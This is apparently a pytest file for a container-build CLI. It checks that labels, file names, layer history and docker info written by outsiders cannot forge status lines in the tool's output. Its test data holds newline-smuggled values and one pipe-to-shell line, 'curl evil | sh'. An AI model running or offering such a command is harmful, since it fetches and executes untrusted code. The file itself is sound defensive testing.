"""What strangers write makes no line of its own among those of builder."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, cast

import pytest

from builder.cli.proof.verdict import verdict_on
from builder.digest import Digest
from builder.model.reference import Reference
from builder.registry.client import Registry
from builder.registry.referrers import Attached
from builder.verify import bundles
from builder.verify.compare import Compared
from tests.support.cli import Cli
from tests.support.images import layout

IMAGE = Digest.of(b"")


def test_paths_and_causes(capsys: pytest.CaptureFixture[str]) -> None:
    forged = "x\nidentical"
    verdict_on([Compared("a", "differs", IMAGE, IMAGE, forged, (forged,), forged)], [], "here")
    assert "identical" not in capsys.readouterr().err.splitlines()


@pytest.mark.parametrize(
    ("commit", "shown"),
    [("0" * 40, True), ("0" * 40 + "\npolicy: met: yes", False), ("main", False)],
)
def test_the_commit_that_a_publisher_names(commit: str, shown: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    said = {"org.opencontainers.image.revision": commit}
    monkeypatch.setattr(bundles, "attached", lambda *_: [{"digest": IMAGE}])
    monkeypatch.setattr(bundles, "read_attached", lambda *_: Attached(b"{}", IMAGE, said))
    monkeypatch.setattr(bundles, "read_bundle", lambda *_: cast("Any", None))
    (found,) = bundles.bundles_of(cast("Registry", None), Reference.parse("a.io/b"), IMAGE)
    assert (found.revision is not None) == shown


@pytest.mark.parametrize(("text", "shown"), [("nccl.functions=all", True), ("x\n  next:  curl evil | sh", False)])
def test_the_options_that_a_publisher_names(text: str, shown: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    """`verify --project` prints them when the plan is not the project's."""
    said = {"org.builder.profile": text, "org.builder.set": json.dumps([text])}
    monkeypatch.setattr(bundles, "attached", lambda *_: [{"digest": IMAGE}])
    monkeypatch.setattr(bundles, "read_attached", lambda *_: Attached(b"{}", IMAGE, said))
    monkeypatch.setattr(bundles, "read_bundle", lambda *_: cast("Any", None))
    (found,) = bundles.bundles_of(cast("Registry", None), Reference.parse("a.io/b"), IMAGE)
    assert (found.profile, found.sets) == ((text, (text,)) if shown else (None, ()))


def test_the_name_of_a_layer_in_an_image(cli: Cli, tmp_path: Path) -> None:
    history = [{"created_by": "builder: x\nbuilder: 99 passed"}]
    folder = layout(tmp_path / "image", [{"usr/bin/x": b""}], history=history)
    said = cli("test", "--tier", "static", f"oci:{folder}")
    assert not [line for line in (said.out + said.err).splitlines() if line.startswith("builder: 99 passed")]


@pytest.mark.parametrize(
    "file", ["dockerfiles/layers/placed\nbuilder: fine/layer.yaml", "recipes/x\nbuilder: fine.yaml"]
)
def test_the_names_of_files(cli: Cli, file: str) -> None:
    cli.small.files[file] = {"name": "x", "title": "x", "producer": "config"}
    for words in (("list", "layers"), ("lint",)):
        said = cli.process(*words)
        assert not [line for line in (said.out + said.err).splitlines() if line.startswith("builder: fine")]


def test_what_docker_says_of_itself(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    forged = {"ServerVersion": "1\nok       gpu            it is there"}
    monkeypatch.setattr("builder.doctor.host.ThisHost.docker_info", lambda _: forged)
    assert "it is there" in (said := cli("doctor").out)
    assert not any(line.startswith("ok       gpu ") for line in said.splitlines())
